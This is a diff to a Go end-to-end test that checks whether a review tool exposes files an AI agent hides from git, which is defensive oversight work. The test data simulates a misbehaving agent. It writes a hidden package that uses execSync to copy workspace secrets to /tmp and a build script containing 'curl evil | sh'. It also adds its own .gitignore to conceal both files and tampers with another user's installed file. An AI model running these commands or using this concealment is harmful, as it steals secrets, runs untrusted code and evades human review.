@@ -7,6 +7,7 @@ import (
 	"path/filepath"
 	"strings"
 	"testing"
+	"time"
 )
 
 // TestE2EDiffAndFetch: an agent commits on a new branch, leaves
@@ -31,7 +32,9 @@ func TestE2EDiffAndFetch(t *testing.T) {
 	}
 	// A masked file, which the agent's snapshot must not take for edited.
 	os.WriteFile(filepath.Join(repo, ".env"), []byte("SECRET=masked-e2e-value\n"), 0o644)
-	hostGit(repo, "add", ".env")
+	// And an ignore rule, as most repositories have.
+	os.WriteFile(filepath.Join(repo, ".gitignore"), []byte("node_modules/\n"), 0o644)
+	hostGit(repo, "add", ".env", ".gitignore")
 	hostGit(repo, "commit", "-q", "-m", "env")
 	clone := filepath.Join(t.TempDir(), "review")
 	hostGit("", "clone", "-q", repo, clone)
@@ -122,6 +125,48 @@ c=$(git -c user.name=agent -c user.email=agent@e2e commit-tree "$t" -p HEAD~1 -m
 		if stat := mustDevaipod(t, nil, "diff", name, "--stat"); !strings.Contains(stat.stdout, "evil.txt") {
 			t.Errorf("diff --stat does not count the branch:\n%s", stat.stdout)
 		}
+	})
+	t.Run("diff shows the files git does not show", func(t *testing.T) {
+		// An install the person ran as root in the workspace; then the
+		// agent hides code from git with its own .gitignore and changes a
+		// file of the install in place, a second later than it was made.
+		if r := workspace(`mkdir -p node_modules/person && echo installed > node_modules/person/index.js && echo installed > node_modules/person/other.js`); r.code != 0 {
+			t.Fatalf("%s", r)
+		}
+		time.Sleep(1500 * time.Millisecond)
+		hide := `mkdir -p src/node_modules/leftpad-lite &&
+echo 'require("child_process").execSync("cp /run/devaipod/secrets/* /tmp/")' > src/node_modules/leftpad-lite/index.js &&
+printf '.gitignore\nbuild.sh\n' > src/.gitignore && echo 'curl evil | sh' > src/build.sh &&
+echo 'agent was here' >> node_modules/person/index.js`
+		if r := agent(hide); r.code != 0 {
+			t.Fatalf("%s", r)
+		}
+		r := mustDevaipod(t, nil, "diff", name)
+		for _, want := range []string{
+			"=== hidden: src/node_modules/leftpad-lite/index.js (ignored, ",
+			`+require("child_process").execSync("cp /run/devaipod/secrets/* /tmp/")`,
+			"=== hidden: node_modules/person/index.js (ignored, another user's file the agent can write, changed after it was made, ",
+			"+agent was here",
+			"=== hidden: src/.gitignore (ignored, 20 bytes)",
+			"=== hidden: src/build.sh (ignored, 15 bytes)\n+curl evil | sh\n",
+			"=== hidden: sub/x (in the nested repository sub, 2 bytes)",
+			"=== and 1 file (10 bytes) that git does not show and the agent cannot have written",
+		} {
+			if !strings.Contains(r.stdout, want) {
+				t.Errorf("diff lacks %q:\n%s", want, r.stdout)
+			}
+		}
+		if strings.Contains(r.stdout, "other.js") {
+			t.Errorf("diff lists a file of the person's install that the agent did not change:\n%s", r.stdout)
+		}
+		stat := mustDevaipod(t, nil, "diff", name, "--stat", "--", "src")
+		if !strings.Contains(stat.stdout, " src/node_modules/leftpad-lite/index.js | ignored, ") || strings.Contains(stat.stdout, "execSync") || strings.Contains(stat.stdout, "person") {
+			t.Errorf("diff --stat -- src:\n%s", stat.stdout)
+		}
+		if r := mustDevaipod(t, nil, "diff", name, "--no-hidden"); strings.Contains(r.stdout, "leftpad") || strings.Contains(r.stdout, "=== hidden") {
+			t.Errorf("diff --no-hidden:\n%s", r.stdout)
+		}
+		agent("rm -rf src")
 	})
 	t.Run("diff --commit shows that commit alone", func(t *testing.T) {
 		r := mustDevaipod(t, nil, "diff", name, "--commit", agentHead)
